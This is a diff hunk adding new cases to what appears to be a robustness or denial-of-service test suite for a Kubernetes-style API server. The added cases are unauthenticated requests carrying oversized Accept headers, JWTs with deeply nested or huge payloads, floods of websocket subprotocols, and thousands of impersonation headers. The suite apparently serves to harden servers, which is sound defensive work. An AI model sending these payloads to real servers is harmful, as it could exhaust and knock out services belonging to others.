@@ -125,6 +125,61 @@ async def a_long_accept(on: Target) -> Answer:
 
 
 @attack(by="anonymous")
+async def an_accept_of_a_megabyte(on: Target) -> Answer:
+    """Half a million media types."""
+    return await on.ask("GET", "/api/v1/pods", headers={"Accept": "a," * 500_000})
+
+
+@attack(by="anonymous")
+async def an_accept_within_the_limit(on: Target) -> Answer:
+    """As many media types as a head may have."""
+    return await on.ask("GET", "/api/v1/pods", headers={"Accept": "pretty," + "a," * 19_900})
+
+
+@attack(by="anonymous")
+async def an_accept_with_parameters(on: Target) -> Answer:
+    """Media types with parameters, one of which asks for a form to read."""
+    return await on.ask("GET", "/api/v1/pods", headers={"Accept": "a;pretty=1;q=0.5," * 6_600})
+
+
+@attack(by="anonymous")
+async def claims_in_many_lists(on: Target) -> Answer:
+    """A JSON web token whose header is a list in a list, without an end."""
+    import base64
+
+    deep = base64.urlsafe_b64encode(b"[" * 180_000).rstrip(b"=").decode()
+    return await on.ask("GET", "/api", headers={"Authorization": f"Bearer {deep}.e30.AAAA"})
+
+
+@attack(by="anonymous")
+async def a_long_number_in_a_token(on: Target) -> Answer:
+    """A JSON web token with a number of a hundred thousand digits."""
+    import base64
+
+    long = base64.urlsafe_b64encode(b'{"iss":' + b"1" * 90_000 + b"}").rstrip(b"=").decode()
+    return await on.ask("GET", "/api", headers={"Authorization": f"Bearer {long}.{long}.AAAA"})
+
+
+@attack(by="anonymous")
+async def protocols_of_a_websocket(on: Target) -> Answer:
+    """Twenty thousand subprotocols, one of which brings a token."""
+    headers = {
+        "Connection": "Upgrade",
+        "Upgrade": "websocket",
+        "Sec-WebSocket-Protocol": "base64url.bearer.authorization.k8s.io.YQ," + "a," * 19_900,
+    }
+    return await on.ask("GET", "/api/v1/pods?watch=1", headers=headers)
+
+
+@attack(by="anonymous")
+async def groups_of_somebody(on: Target) -> Answer:
+    """Six thousand groups and extra values, by somebody who may impersonate nobody."""
+    lines = b"".join(b"Impersonate-Extra-a%d: b\r\nImpersonate-Group: c%d\r\n" % (n, n) for n in range(3_000))
+    head = b"GET /api HTTP/1.1\r\nHost: x\r\nConnection: close\r\nImpersonate-User: a\r\n"
+    return await (await on.connect()).ask(head + lines + b"\r\n")
+
+
+@attack(by="anonymous")
 async def an_upgrade(on: Target) -> Answer:
     """An upgrade to nothing in particular with much behind it."""
     head = b"GET /version HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n"
